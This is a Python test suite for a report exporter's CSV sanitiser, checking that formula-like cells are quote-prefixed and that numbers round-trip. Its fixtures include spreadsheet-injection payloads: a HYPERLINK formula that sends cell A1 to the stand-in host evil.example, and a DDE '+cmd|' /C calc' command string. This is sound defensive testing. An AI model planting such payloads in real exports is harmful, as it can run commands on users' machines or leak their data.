"""CSV cells no spreadsheet runs as a formula, numbers that stay numbers, and the week's CSV
export with hostile run, team and verdict names read back with the csv module."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime, timedelta

import pandas as pd
import pytest
from fakes import run_record
from hypothesis import given
from hypothesis import strategies as st

from reports import kpi as kpis
from reports.render.csvsafe import FORMULA_START, safe_cell, safe_row, writer
from reports.render.exports import to_csv, to_dict

W48 = datetime(2026, 11, 23, tzinfo=UTC)


def written(values: list[object]) -> list[str]:
    """``values`` through the safe writer, read back with csv.reader: one row."""
    out = io.StringIO(newline="")
    writer(out).writerow(values)
    (row,) = list(csv.reader(io.StringIO(out.getvalue(), newline="")))
    return row


@pytest.mark.parametrize(
    ("cell", "expected"),
    [
        (
            '=HYPERLINK("http://evil.example/?x="&A1,"click")',
            '\'=HYPERLINK("http://evil.example/?x="&A1,"click")',
        ),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("\n=1+1", "'\n=1+1"),
        ("llama-sft", "llama-sft"),  # a '-' inside is harmless
        ("'quoted", "'quoted"),
        ("", ""),
    ],
)
def test_formula_cells_are_prefixed(cell: str, expected: str) -> None:
    assert safe_cell(cell) == expected
    assert written([cell]) == [expected]


def test_numbers_stay_numbers_and_a_line_break_stays_in_its_cell() -> None:
    assert safe_cell(-3.5) == -3.5 and safe_cell(-2) == -2 and safe_cell(None) is None
    assert safe_row([-3.5, "-3.5"]) == [-3.5, "'-3.5"]
    out = io.StringIO(newline="")
    writer(out).writerows([[-3.5, "-3.5", 0, None], ["x\r=1", "y\n@z"]])
    # the number unquoted, only text changed; a cell with CR or LF quoted, so =1 and @z are
    # not cells of their own
    assert out.getvalue() == '-3.5,\'-3.5,0,\r\n"x\r=1","y\n@z"\r\n'


@given(st.text())
def test_no_text_cell_reads_back_as_a_formula(text: str) -> None:
    (cell,) = written([text])
    if text.startswith(FORMULA_START):
        assert cell == "'" + text
    else:
        assert cell == text
    assert not cell.startswith(FORMULA_START)


@given(st.one_of(st.integers(), st.floats(allow_nan=False, allow_infinity=False)))
def test_numbers_round_trip(number: float) -> None:
    (cell,) = written([number])
    assert not cell.startswith("'")
    assert (int(cell) if isinstance(number, int) else float(cell)) == number


def test_the_weeks_csv_neutralizes_every_user_string() -> None:
    """Run names, teams, users, verdicts and advice a spreadsheet would run; the figures are
    still numbers (2 h at $3.85: spend 7.7)."""
    evil = {
        "name": '=HYPERLINK("http://evil.example","x")',
        "team": "@team",
        "project": "+proj",
        "user": "-2+3",
        "verdict": "\t=cmd",
        "advice": "\r=1",
    }
    k = kpis.week_kpis(
        kpis.runs_frame([run_record("=run-id", W48, 2, util=20.0, **evil)]),
        kpis.samples_frame([]),
        W48,
        tz=UTC,
        now=W48 + timedelta(days=8),
    )
    rows = list(csv.reader(io.StringIO(to_csv(to_dict(k, UTC), k.runs), newline="")))
    cells = [c for row in rows[1:] for c in row]
    assert not [c for c in cells if c.startswith(FORMULA_START)]
    runs = {r[4]: r[5] for r in rows if r[2] == "run"}
    assert {r[3] for r in rows if r[2] == "run"} == {"'=run-id"}
    assert runs["name"] == "'" + evil["name"] and runs["team"] == "'@team"
    assert runs["user"] == "'-2+3" and runs["advice"] == "'\r=1"
    assert float(runs["spend_usd"]) == pytest.approx(7.7)
    assert {r[3] for r in rows if r[2] == "team"} == {"'@team"}


_TEXT = st.text(alphabet=st.sampled_from([*"ab,\"\r\n=+-@\t é;'", "\x00", "\u2028"]), max_size=8)


@given(
    rows=st.lists(
        st.tuples(
            _TEXT,
            st.one_of(st.none(), _TEXT),
            st.one_of(st.none(), st.floats(allow_nan=True, allow_infinity=True)),
            st.integers(min_value=-(2**40), max_value=2**40),
            st.one_of(st.none(), _TEXT, st.binary(max_size=4)),
        ),
        max_size=7,
    )
)
def test_the_run_lines_are_what_the_csv_module_writes(
    rows: list[tuple[str, str | None, float | None, int, object]],
) -> None:
    """The runs' lines are made from their columns without the csv module; each line is the
    one csv.writer (excel) writes for the same neutralized cells, byte for byte: quoting,
    doubled quotes, line breaks, NaN and ±inf empty, -0.0, big integers, bytes decoded."""
    from reports.render import exports

    runs = pd.DataFrame(
        {
            "run_id": pd.Series([r[0] for r in rows], dtype=object),
            "name": pd.Series([r[1] for r in rows], dtype="string"),
            "gpu_hours": pd.Series([r[2] for r in rows], dtype=float),
            "gpu_count": pd.Series([r[3] for r in rows], dtype="int64"),
            "advice": pd.Series([r[4] for r in rows], dtype=object),
        }
    )
    head = safe_row(["2026-W48", "util", "run"])
    out = io.StringIO(newline="")
    exports._run_rows(out, head, runs, block=3)
    expected = io.StringIO(newline="")
    oracle = csv.writer(expected, dialect="excel")
    for i in range(len(runs)):
        key = safe_cell(exports.plain(runs["run_id"].iloc[i]))
        for f in exports._CSV_RUN_FIELDS:
            cell = safe_cell(exports.plain(runs[f].iloc[i])) if f in runs else None
            oracle.writerow([*head, key, safe_cell(f), "" if cell is None else cell])
    assert out.getvalue() == expected.getvalue()
